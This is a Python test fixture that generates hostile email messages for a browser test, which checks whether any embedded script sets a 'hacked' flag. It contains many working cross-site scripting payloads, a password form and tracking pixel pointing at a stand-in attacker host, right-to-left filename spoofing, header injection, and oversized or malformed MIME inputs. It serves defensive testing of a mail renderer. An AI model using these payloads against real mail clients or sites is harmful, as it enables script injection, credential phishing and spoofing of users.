"""Messages that want to do harm to whoever looks at them.  If any of their scripts ran, it would set
`window.__hacked = true`; a browser test opens each one and looks for that.
"""

# ruff: noqa: E501 - an attack is one line

from __future__ import annotations

from base64 import b64encode

RUN = "window.__hacked=true"
TRICKS = {
    "script": f"<script>{RUN}</script>",
    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "event handler": f'<img src=x onerror="{RUN}"><b onmouseover={RUN} autofocus onfocus={RUN} tabindex=1>x</b>',
    "handler without spaces": f"<img/src/onerror={RUN}><body/onload={RUN}>",
    "svg onload": f'<svg onload="{RUN}"><svg><animate onbegin="{RUN}" attributeName=x></svg><svg><script>{RUN}</script>',
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f"<template><script>{RUN}</script></template><xmp><img src=x onerror={RUN}></xmp>",
    "javascript link": f'<a href="javascript:{RUN}">here</a><a href=" jAvA&#x0a;script:{RUN}">or here</a>',
    "vbscript and file": '<a href="vbscript:x">a</a><a href="file:///etc/passwd">b</a><a href="//evil.test/x">c</a>',
    "relative link": '<a href="/api/shutdown">a</a><a href="?reset">b</a><a href="https:/lab">c</a><a href="http:\\\\x">d</a>',
    "data address": f'<a href="data:text/html,<script>{RUN}</script>">x</a><img src="data:image/svg+xml,<svg onload={RUN}>">',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src="javascript:parent.{RUN}">',
    "object": f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}"><applet code=x>',
    "meta refresh": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}"><base href="https://evil.test/">',
    "style sheet": "<style>body{display:none} *{background:url(https://evil.test/x)}</style><link rel=stylesheet href=x>",
    "covers the page": '<div style="position:fixed;inset:0;z-index:9999;background:red" class="jp-Cell" id="main">x</div>',
    "form": '<form action="https://evil.test/"><input name=password autofocus><button formaction="javascript:x">Go</button>',
    "never closed": '<div><table><tr><td><b><form><select><textarea><a href="https://evil.test/"><!-- never closed',
    "closes what is not its own": "</div></div></td></table></pre></textarea></body></html><b>out</b>",
    "commands of the notebook": '<a data-commandlinker-command="kernelmenu:restart" href="#">x</a><jp-button>y</jp-button>',
    "remote picture": '<img src="https://evil.test/pixel.png" srcset="x 1x" alt="bread" width=1 height=1 loading=eager>',
    "other media": "<video src=x poster=y><audio src=x><picture><source srcset=x><img src=y></picture><input type=image src=z>",
    "links that lie": '<a href="https://evil.test/login">https://bakery.test/login</a>',
    "half a letter": "<p>&#xD800; \x00 &#0; &#x202E;gpj.exe</p>",
    "formulas": r"<p>$\href{javascript:window.__hacked=true}{x}$ \(\unicode{x}\) {{constructor.constructor('x')()}}</p>",
    "ten thousand inside another": "<div>" * 10_000 + "deep",
}


def hostile() -> dict[str, bytes]:
    """Return the messages: what each tries → its octets."""
    found = {f"html: {name}": message(body) for name, body in TRICKS.items()}
    found |= {f"text: {name}": message(body, kind="text/plain") for name, body in list(TRICKS.items())[:8]}
    for name in ("script", "event handler", "closes what is not its own"):
        trick = TRICKS[name]
        found[f"header: {name}"] = message(
            "x",
            subject=trick,
            sender=f'"{trick}" <a@evil.test>',
            more=f"X-{'Odd'}: {trick}\r\nReceived: from {trick} by {trick}; now\r\nMessage-ID: <{trick}>\r\n",
        )
        found[f"encoded header: {name}"] = message("x", subject=f"=?utf-8?b?{b64encode(trick.encode()).decode()}?=")
        found[f"name of a file: {name}"] = with_files([f"{trick}.pdf"])
    found["text that runs backwards"] = message(
        kind="text/plain",
        body="pay \u202etsop\u202c and \u2066hidden",
        subject="\u202egpj.exe\u200b \u2067x",
        sender="\u202ebank <a@evil.test>",
    )
    found["file that runs backwards"] = with_files(["bill\u202efdp.exe"])
    found["subject of a megabyte"] = message("x", subject="bread " * 175_000)
    found["500 attachments"] = with_files([f"{number}.pdf" for number in range(500)])
    found["500 fields"] = message("x", more="".join(f"X-Field-{number}: {number}\r\n" for number in range(500)))
    return found | malformed()


def malformed() -> dict[str, bytes]:
    """Return messages that break the rules of MIME."""
    kind = b"MIME-Version: 1.0\r\nContent-Type: "
    return {
        "empty": b"",
        "no header": b"\r\n<script>window.__hacked=true</script>",
        "only a header": b"Subject: x",
        "no colon": b"nonsense\r\n more\r\n\r\nx",
        "octets": bytes(range(256)) * 20,
        "multipart without boundary": kind + b"multipart/mixed\r\n\r\nx",
        "boundary that never comes": kind + b"multipart/mixed; boundary=x\r\n\r\n<script>window.__hacked=true</script>",
        "parts inside parts": kind
        + b'multipart/mixed; boundary="x"\r\n\r\n'
        + b"--x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" * 200,
        "no such charset": kind + b'text/html; charset="klingon\x00"\r\n\r\n<script>window.__hacked=true</script>\xff',
        "utf-7": kind + b"text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-window.__hacked=true+ADw-/script+AD4-",
        "not a charset of text": kind + b"text/plain; charset=rot13\r\n\r\nx",
        "broken base64": kind + b"text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD4!!=%%=",
        "broken words": b'From: =?utf-8?b?!!!?= <a@\r\nSubject: =?x?q?=41?= =?utf-8?b?4?=\r\nDate: never\r\nTo: <<>,;:"\r\n\r\nx',
        "two of everything": b"From: a@x.test\r\nFrom: b@x.test\r\nSubject: 1\r\nSubject: 2\r\nContent-Type: text/html\r\n"
        b"Content-Type: text/plain\r\n\r\n<script>window.__hacked=true</script>",
        "identifiers with line ends": b"Message-ID: <a\r\n b@x.test>\r\nReferences: "
        + b"<1@x.test>\r\n " * 3000
        + b"\r\nReply-To: <x>\r\n\r\nx",
    }


def message(
    body: str, *, kind: str = "text/html", subject: str = "Bread", sender: str = "a@evil.test", more: str = ""
) -> bytes:
    """Write a message as an attacker does, with no library in the way."""
    return (
        f"From: {sender}\r\nTo: bruno@bakery.test\r\nSubject: {subject}\r\n{more}"
        f"MIME-Version: 1.0\r\nContent-Type: {kind}; charset=utf-8\r\n\r\n{body}\r\n"
    ).encode("utf-8", "surrogatepass")


def with_files(names: list[str]) -> bytes:
    """Write a message with empty files."""
    parts = "".join(
        f'--x\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="{name}"\r\n\r\nx\r\n'
        for name in names
    )
    kind = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
    return f"From: a@evil.test\r\nSubject: files\r\n{kind}{parts}--x--\r\n".encode()
